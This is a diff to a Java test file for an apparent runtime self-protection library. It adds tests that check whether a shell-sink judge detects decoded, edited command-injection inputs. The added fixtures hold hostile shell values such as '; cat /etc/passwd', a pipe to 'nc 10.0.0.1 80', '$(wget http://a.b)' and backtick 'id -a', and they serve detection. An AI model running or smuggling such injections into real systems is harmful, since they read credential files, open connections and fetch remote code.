@@ -15,12 +15,17 @@ import io.github.raspspring.attack.query.XPathJudge;
 import io.github.raspspring.attack.url.OutboundPolicy;
 import io.github.raspspring.attack.url.UrlCall;
 import io.github.raspspring.attack.url.UrlJudge;
+import io.github.raspspring.autoconfigure.FamilyTraits;
 import io.github.raspspring.engine.EnforcementMode;
+import io.github.raspspring.engine.InputLocation;
+import io.github.raspspring.engine.InputValue;
+import io.github.raspspring.engine.ValueReader;
+import io.github.raspspring.inspect.CanonicalValueReader;
 import io.github.raspspring.sink.SinkCall;
 import io.github.raspspring.sink.SinkJudge;
 import io.github.raspspring.sink.SinkRequests;
-import io.github.raspspring.sink.TextCall;
 import io.github.raspspring.sink.TextCall.Language;
+import io.github.raspspring.sink.TextCall;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
@@ -32,7 +37,36 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class EditedAtSinksTests {
 
+	private static final ValueReader READER = new CanonicalValueReader(FamilyTraits.reader());
+
 	private final SinkRequests requests = new SinkRequests(EnforcementMode.BLOCK);
+
+	/** What a decoder would make of them stands in the text in pieces only. */
+	@ParameterizedTest
+	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
+			'+1-202-555-0123'        ~ echo '+1-202-555-0123'
+			'100%25 sure + more'     ~ echo '100%25 sure + more'
+			'a+b&amp;c d'            ~ echo 'a+b&amp;c d'
+			"x%20y+z 5"              ~ echo "x%20y+z 5"
+			'caf%C3%A9 + bar'        ~ printf %s 'caf%C3%A9 + bar'
+			'\\x41 + bcdef'          ~ echo '\\x41 + bcdef' > list.txt
+			""")
+	void judgeWhenInputOccursAsItWasSentThenIsNotTakenForEdited(String input, String script) {
+		assertThat(attacks(Kind.SHELL, input, script)).isFalse();
+	}
+
+	@ParameterizedTest
+	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
+			a;+ccatat+/etc/passwd    ~ ls a; cat /etc/passwd
+			a%3B%20ccatat%20/etc/x   ~ ls a; cat /etc/x
+			a &amp;& whoami + x > b  ~ ls a && whoami  x > b
+			x|nncc%2010.0.0.1+80     ~ grep x|nc 10.0.0.1 80
+			$(wgetget+http://a.b)    ~ ls $(wget http://a.b)
+			x`id+-script+a`          ~ echo "x`id -a`"
+			""")
+	void judgeWhenInputWasDecodedAndEditedThenSeesIt(String input, String script) {
+		assertThat(attacks(Kind.SHELL, input, script)).isTrue();
+	}
 
 	@ParameterizedTest
 	@CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
@@ -147,7 +181,8 @@ class EditedAtSinksTests {
 	}
 
 	private <C extends SinkCall> boolean attacks(SinkJudge<C> judge, C call, String input) {
-		return judge.judge(call, this.requests.inputs(input)) != null;
+		InputValue value = new InputValue(InputLocation.FORM, "field", input);
+		return judge.judge(call, this.requests.inputs(READER, value)) != null;
 	}
 
 	enum Kind {
